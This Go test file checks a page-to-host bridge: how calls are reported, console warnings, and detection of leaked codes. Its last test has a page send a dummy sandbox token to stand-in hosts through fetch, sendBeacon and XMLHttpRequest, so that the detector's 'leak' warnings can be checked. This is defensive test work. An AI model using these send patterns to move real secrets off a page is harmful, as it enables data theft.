//go:build cgo && linux

package window

import (
	"slices"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/jembatan/jembatan/bridge"
	"github.com/jembatan/jembatan/bridge/conformance"
)

// Two of the ways in which a call can be made exist only in a real page.
func TestPageReportsHowACallWasMade(t *testing.T) {
	inWindows(t, func(t *testing.T) {
		h := conformance.NewHost(t, bridge.Limits{})
		openPage(t, h.Session).Load(`
			const tell = (when) => my.about({success: (r) => my.report({when, ...r})});
			tell('while it loads');
			dispatchEvent(new Event('pageshow')); // made by the page itself: it proves nothing
			dispatchEvent(new Event('pointerdown'));
			tell('after events of its own');
			addEventListener('pageshow', (e) => { if (e.isTrusted) { tell('while shown'); setTimeout(() => tell('later'), 20); } });`)
		want := []string{ // sorted: calls are answered in no fixed order
			`{"when":"after events of its own","beforeInput":true,"whileShown":false}`,
			`{"when":"later","beforeInput":true,"whileShown":false}`,
			`{"when":"while it loads","beforeInput":true,"whileShown":false}`,
			`{"when":"while shown","beforeInput":true,"whileShown":true}`,
		}
		var got []string
		for range want {
			got = append(got, h.Report(t))
		}
		slices.Sort(got)
		if diff := cmp.Diff(want, got); diff != "" {
			t.Error(diff)
		}
	})
}

func TestWarningOfTheHostAppearsOnThePagesConsole(t *testing.T) {
	inWindows(t, func(t *testing.T) {
		h := conformance.NewHost(t, bridge.Limits{})
		openPage(t, h.Session).Load(`my.about({warn: 'mind this', complete: () => console.log('done')})`)
		h.Record.Wait(t, `warning {"id":1,"rule":"test","text":"mind this"}`)
		h.Record.Wait(t, `console {"level":"log","text":"done"`)
		if lines := h.Record.Lines("console"); len(lines) != 1 {
			t.Errorf("the page's own lines are %q", lines)
		}
	})
}

// TestCodeSentToAnotherMachineIsNoticed has a page send what looks like a code in every way that
// is watched. The machine cannot be reached from here.
func TestCodeSentToAnotherMachineIsNoticed(t *testing.T) {
	inWindows(t, func(t *testing.T) {
		h := conformance.NewHost(t, bridge.Limits{})
		openPage(t, h.Session).Load(`(async () => {
			const code = 'sandbox_' + 'x'.repeat(43);
			const ignore = () => {};
			fetch('/here', {method: 'POST', body: code}).catch(ignore);
			fetch('http://localhost:1/?code=' + code).catch(ignore);
			fetch('http://other.test/?code=none').catch(ignore);
			fetch('http://Query.test/?code=' + code).catch(ignore);
			fetch('http://body.test/', {method: 'POST', body: JSON.stringify({code})}).catch(ignore);
			fetch(new Request('http://request.test/?' + code)).catch(ignore);
			navigator.sendBeacon('http://beacon.test/', new URLSearchParams({code}));
			const x = new XMLHttpRequest();
			x.open('POST', 'http://xhr.test/');
			x.send('code=' + code);
			my.report([fetch.name, fetch.length, XMLHttpRequest.prototype.open.length]);
		})()`)
		if got, want := h.Report(t), `["fetch",1,2]`; got != want {
			t.Errorf("what is wrapped looks like %s, want %s", got, want)
		}
		for _, host := range []string{"query.test", "body.test", "request.test", "beacon.test", "xhr.test"} {
			h.Record.Wait(t, `warning {"rule":"leak"`, "sent to "+host+",")
		}
		if lines := h.Record.Lines("warning"); len(lines) != 5 {
			t.Errorf("warnings are %q, want five", lines)
		}
	})
}
